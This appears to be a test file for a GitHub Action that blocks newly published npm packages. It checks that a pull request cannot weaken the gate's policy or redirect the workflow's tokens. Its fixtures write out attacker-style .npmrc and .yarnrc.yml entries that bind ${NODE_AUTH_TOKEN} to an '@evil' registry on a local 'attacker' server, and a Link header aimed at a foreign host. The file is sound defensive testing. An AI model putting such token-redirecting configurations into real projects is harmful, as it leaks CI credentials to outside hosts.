/**
 * The Action must not trust the pull request it judges (issue 15): the policy and the registry
 * configuration come from the base commit, the head's lockfiles are data, and a credential only
 * ever goes to a host the base configuration names. An "attacker" registry on 127.0.0.1 records
 * every request it gets, with its Authorization header.
 */
import { startFixtureRegistry, type FixtureRegistry } from '../../scripts/lib/fixture-registry.mjs';
import { pullRequestPayload, runAction, startRecordingServer, useStubGitHub, type ActionRun, type RunActionOptions } from '../support/action.js';
import { demoDocuments, useDemoRegistry } from '../support/demo-registry.js';
import { DEMO_MANIFEST, demoLockWith } from '../support/demo-project.js';
import { createGitRepo, type GitRepo } from '../support/git-repo.js';

const registryOf = useDemoRegistry();
const api = useStubGitHub();
const TOKEN = 'npm_workflow-secret-0123456789';

/** Serves the demo's documents, but says quick-format 3.1.1 is years old; and @evil/safe-parse. */
let attacker: FixtureRegistry;
beforeAll(async () => {
  const documents = demoDocuments();
  const quick = JSON.parse(documents.get('quick-format') ?? '{}') as { time: Record<string, string> };
  quick.time['3.1.1'] = '2020-01-01T00:00:00.000Z';
  documents.set('quick-format', JSON.stringify(quick));
  const safeParse = JSON.parse(documents.get('safe-parse') ?? '{}') as { name: string; versions: Record<string, { name: string }> };
  safeParse.name = '@evil/safe-parse';
  for (const version of Object.values(safeParse.versions)) version.name = '@evil/safe-parse';
  documents.set('@evil/safe-parse', JSON.stringify(safeParse));
  attacker = await startFixtureRegistry({ documents });
});
afterAll(async () => {
  await attacker.close();
});
beforeEach(() => attacker.resetStats());

function pr(repo: GitRepo, base: string, extra: Partial<RunActionOptions> = {}): Promise<ActionRun> {
  return runAction({ repo, event: 'pull_request', payload: pullRequestPayload({ base }), api, registryUrl: registryOf().url, ...extra });
}

/** The attacker's host as npm keys credentials: `//127.0.0.1:<port>/`. */
const nerf = (url: string): string => url.replace(/^http:/, '');

/** A base whose lockfile has quick-format 3.1.0; the head bumps it to 3.1.1 (published 2 days before now: blocked). */
function bumpRepo(baseFiles: Record<string, string> = {}): { repo: GitRepo; base: string } {
  const repo = createGitRepo();
  const base = repo.commit({ 'package.json': DEMO_MANIFEST, 'package-lock.json': demoLockWith({ 'quick-format': '3.1.0', 'safe-parse': '5.2.0' }), ...baseFiles }, 'base');
  return { repo, base };
}

const HEAD_LOCK = demoLockWith({ 'safe-parse': '5.2.0' });

describe('a pull request cannot relax the gate that judges it', () => {
  const relaxations: Array<[string, () => Record<string, string>, Partial<RunActionOptions>]> = [
    ['adds {"extends": "observe"}', () => ({ 'quarantine.json': '{ "extends": "observe" }\n' }), {}],
    [
      'adds its own exception',
      () => ({
        'quarantine.json': JSON.stringify({ exceptions: [{ package: 'quick-format@3.1.1', rules: ['release-age'], reason: 'trust me', expires: '2026-12-15' }] }),
      }),
      {},
    ],
    ['turns release-age off', () => ({ 'quarantine.json': '{ "rules": { "release-age": { "severity": "off" } } }\n' }), {}],
    ['points registry= at a server of its choosing', () => ({ '.npmrc': `registry=${attacker.url}\n` }), { inputs: { registry: '' } }],
  ];

  test.each(relaxations)('a pull request that %s is still blocked (exit 1)', async (_what, files, extra) => {
    const { repo, base } = bumpRepo({ '.npmrc': `registry=${registryOf().url}\n` });
    repo.commit({ 'package-lock.json': HEAD_LOCK, ...files() }, 'relax the gate');
    const run = await pr(repo, base, extra);
    expect(run.code).toBe(1);
    expect(run.report?.packages.find((entry) => entry.name === 'quick-format')?.verdict).toBe('block');
    expect(attacker.requests).toEqual([]);
    // Said plainly, in the summary and in the comment.
    expect(run.summary).toContain('**This pull request changes the gate:**');
    const comment = api.comments.get(7)?.[0]?.body ?? '';
    expect(comment).toContain('**This pull request changes the gate:**');
  });

  test('the summary and the comment say what its own policy would allow once merged', async () => {
    const { repo, base } = bumpRepo();
    repo.commit({ 'package-lock.json': HEAD_LOCK, ...relaxations[1]?.[1]() }, 'add an exception');
    const run = await pr(repo, base);
    expect(run.code).toBe(1);
    const lines = [
      '**This pull request changes the gate:** its policy.',
      'It adds exceptions for `quick-format@3.1.1`.',
      "This check used the base branch's policy. Once merged, the pull request's policy would allow `quick-format@3.1.1`, which this check blocks.",
    ].join('\n');
    expect(run.summary).toContain(lines);
    expect(api.comments.get(7)?.[0]?.body).toContain(lines);
  });

  test('a changed .npmrc is named, and said to apply only once merged', async () => {
    const { repo, base } = bumpRepo({ '.npmrc': `registry=${registryOf().url}\n` });
    repo.commit({ 'package-lock.json': HEAD_LOCK, 'apps/web/.npmrc': `registry=${attacker.url}\n` }, 'add a registry');
    const run = await pr(repo, base);
    expect(run.summary).toContain('**This pull request changes the gate:** its registry configuration (`apps/web/.npmrc`).');
    expect(run.summary).toContain('This check asked the registries the base branch names');
  });

  test('trust-pr-policy: true takes in the pull request\'s exception, and says what the base policy would block', async () => {
    const { repo, base } = bumpRepo();
    repo.commit({ 'package-lock.json': HEAD_LOCK, ...relaxations[1]?.[1]() }, 'add an exception');
    const run = await pr(repo, base, { inputs: { 'trust-pr-policy': 'true' } });
    expect(run.code).toBe(0);
    const line = "`trust-pr-policy` is on, so the pull request's own policy decided this verdict; the base branch's policy would block `quick-format@3.1.1`.";
    expect(run.summary).toContain(line);
    // Nothing blocks, yet the reviewer is told in a comment.
    expect(api.comments.get(7)?.[0]?.body).toContain(line);
  });

  test('an unchanged gate says nothing about it', async () => {
    const { repo, base } = bumpRepo({ 'quarantine.json': '{ "extends": "default" }\n' });
    repo.commit({ 'package-lock.json': HEAD_LOCK }, 'bump');
    const run = await pr(repo, base);
    expect(run.code).toBe(1);
    expect(run.summary).not.toContain('changes the gate');
  });
});

describe('a pull request cannot redirect the workflow\'s registry token', () => {
  test('.npmrc: @evil:registry plus //attacker/:_authToken=${NODE_AUTH_TOKEN} gets no token', async () => {
    const { repo, base } = bumpRepo();
    const lock = JSON.parse(HEAD_LOCK) as { packages: Record<string, object> };
    lock.packages['node_modules/@evil/safe-parse'] = { version: '5.2.0', resolved: `${attacker.url}@evil/safe-parse/-/safe-parse-5.2.0.tgz`, integrity: 'sha512-AAAA' };
    repo.commit({
      'package-lock.json': `${JSON.stringify(lock, null, 2)}\n`,
      '.npmrc': `@evil:registry=${attacker.url}\n${nerf(attacker.url)}:_authToken=\${NODE_AUTH_TOKEN}\n`,
    }, 'add @evil/safe-parse');
    const run = await pr(repo, base, { env: { NODE_AUTH_TOKEN: TOKEN } });
    expect(attacker.requests.map((request) => request.headers['authorization'])).toEqual([]);
    expect(JSON.stringify(attacker.requests)).not.toContain(TOKEN);
    expect(run.stdout).not.toContain(TOKEN);
  });

  test('.yarnrc.yml: npmScopes.evil with npmAuthToken "${NODE_AUTH_TOKEN}" gets no token', async () => {
    const repo = createGitRepo();
    const manifest = JSON.stringify({ name: 'app', packageManager: 'yarn@4.5.0', dependencies: { 'quick-format': '^3.0.0' } });
    const entry = (name: string, version: string) => [`"${name}@npm:^${version.split('.')[0]}.0.0":`, `  version: ${version}`, `  resolution: "${name}@npm:${version}"`, '  languageName: node', '  linkType: hard', ''];
    const berry = (entries: string[][]) =>
      ['__metadata:', '  version: 8', '  cacheKey: 10c0', '', '"app@workspace:.":', '  version: 0.0.0-use.local', '  resolution: "app@workspace:."', '  languageName: unknown', '  linkType: soft', '', ...entries.flat()].join('\n');
    const base = repo.commit({ 'package.json': manifest, 'yarn.lock': berry([entry('quick-format', '3.1.0')]) }, 'base');
    repo.commit({
      'yarn.lock': berry([entry('@evil/safe-parse', '5.2.0'), entry('quick-format', '3.1.0')]),
      '.yarnrc.yml': ['npmScopes:', '  evil:', `    npmRegistryServer: "${attacker.url}"`, '    npmAuthToken: "${NODE_AUTH_TOKEN}"', ''].join('\n'),
    }, 'add @evil/safe-parse');
    const run = await pr(repo, base, { env: { NODE_AUTH_TOKEN: TOKEN } });
    expect(attacker.requests.map((request) => request.headers['authorization'])).toEqual([]);
    expect(run.stdout).not.toContain(TOKEN);
  });
});

describe('the GitHub token stays with the GitHub API', () => {
  let foreign: Awaited<ReturnType<typeof startRecordingServer>>;
  beforeAll(async () => {
    foreign = await startRecordingServer();
  });
  afterAll(async () => {
    await foreign.close();
  });

  test('a Link: rel="next" to another host is not followed, on a pull request or a schedule', async () => {
    const { repo, base } = bumpRepo();
    repo.commit({ 'package-lock.json': HEAD_LOCK }, 'bump');
    api.nextLink = `${foreign.url}/repos/acme/app/issues/7/comments?page=2`;
    const run = await pr(repo, base);
    expect(run.code).toBe(1);
    expect(foreign.requests).toEqual([]);
    expect(run.stdout).toContain('::warning::Could not comment on the pull request: listing the pull request comments: the next-page link points to another host');
    api.nextLink = `${foreign.url}/repos/acme/app/pulls?state=open&page=2`;
    const scheduled = await runAction({ repo, event: 'schedule', api, registryUrl: registryOf().url });
    expect(scheduled.stdout).toContain('Could not re-check the open pull requests: listing the open pull requests: the next-page link points to another host');
    expect(foreign.requests).toEqual([]);
  });
});

describe('a lockfile in a sub-folder uses that folder\'s .npmrc, as npm does', () => {
  test('sub/package-lock.json is checked against the registry sub/.npmrc names, not the root\'s', async () => {
    const repo = createGitRepo();
    const base = repo.commit({
      '.npmrc': `registry=${attacker.url}\n`,
      'sub/.npmrc': `registry=${registryOf().url}\n`,
      'sub/package.json': DEMO_MANIFEST,
      'sub/package-lock.json': demoLockWith({ 'quick-format': '3.1.0', 'safe-parse': '5.2.0' }),
    }, 'base');
    repo.commit({ 'sub/package-lock.json': HEAD_LOCK }, 'bump quick-format');
    const run = await pr(repo, base, { inputs: { registry: '' } });
    expect(run.report?.packages.map((entry) => `${entry.name}@${entry.version} ${entry.verdict}`)).toEqual(['quick-format@3.1.1 block']);
    expect(attacker.requests).toEqual([]);
    expect(run.code).toBe(1);
  });

  test('one package that two lockfiles route to different registries fails closed, naming both', async () => {
    const repo = createGitRepo();
    const old = demoLockWith({ 'quick-format': '3.1.0', 'safe-parse': '5.2.0' });
    const base = repo.commit({
      '.npmrc': `registry=${registryOf().url}\n`,
      'package.json': DEMO_MANIFEST,
      'package-lock.json': old,
      'sub/.npmrc': `registry=${attacker.url}\n`,
      'sub/package.json': DEMO_MANIFEST,
      'sub/package-lock.json': old,
    }, 'base');
    repo.commit({ 'package-lock.json': HEAD_LOCK, 'sub/package-lock.json': HEAD_LOCK }, 'bump both');
    const run = await pr(repo, base, { inputs: { registry: '' } });
    expect(run.code).toBe(2);
    expect(run.stdout).toContain('quick-format: the npm configurations of package-lock.json, sub/package-lock.json name different registries for it');
  });
});

describe('pull_request_target judges the pull request, not the base branch', () => {
  test('a checkout of the base branch (HEAD is GITHUB_SHA, not the head) fails closed: nothing of the pull request would be judged', async () => {
    const { repo, base } = bumpRepo();
    const tip = repo.commit({ 'README.md': 'the base branch moved on\n' }, 'base branch tip');
    const run = await runAction({ repo, event: 'pull_request_target', payload: pullRequestPayload({ base }), api, registryUrl: registryOf().url, env: { GITHUB_SHA: tip } });
    expect(run.code).toBe(2);
    expect(run.stdout).toContain('::error title=release-quarantine could not evaluate::pull_request_target: the checkout is the base branch (GITHUB_SHA), not the pull request\'s head');
    expect(run.stdout).toContain('ref: ${{ github.event.pull_request.head.sha }}');
  });

  test('the head checked out: judged as usual, with the base\'s configuration', async () => {
    const { repo, base } = bumpRepo();
    const head = repo.commit({ 'package-lock.json': HEAD_LOCK, 'quarantine.json': '{ "extends": "observe" }\n' }, 'bump');
    const payload = pullRequestPayload({ base, headRepo: 'mallory/app' }) as { pull_request: { head: { sha: string } } };
    payload.pull_request.head.sha = head;
    const run = await runAction({ repo, event: 'pull_request_target', payload, api, registryUrl: registryOf().url, env: { GITHUB_SHA: base } });
    expect(run.code).toBe(1);
    expect(run.summary).toContain('**This pull request changes the gate:** its policy.');
  });
});
